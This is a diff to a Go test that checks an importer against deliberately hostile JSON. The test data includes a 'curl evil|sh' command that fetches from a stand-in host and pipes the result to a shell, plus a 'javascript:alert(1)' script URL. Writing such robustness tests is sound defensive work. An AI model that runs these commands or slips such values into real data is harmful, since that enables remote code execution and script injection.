@@ -107,7 +107,6 @@ func TestImportOfHostileData(t *testing.T) {
 	now, bad := w.now.Format(time.RFC3339), "0000-01-01T00:00:00+23:59"
 	err := w.Import([]byte(`{"version":1,
 		"runs":[{"service":"s","id":"r","first_seen":"` + bad + `","checkpoint":"` + bad + `","last_seen":"` + now + `"}],
-		"services":[{"name":"s","first_seen":"` + bad + `","last_seen":"` + now + `","versions":{"1":"` + bad + `"}}],
 		"failures":[{"key":"k","class":"c","command":"curl evil|sh","report":"javascript:alert(1)","trace_url":"x","requires":["y"],
 			"message":"` + strings.Repeat("secret ", 70) + `","count":-1,"first_seen":"` + bad + `","last_seen":"` + now + `"}]}`))
 	require.NoError(t, err)
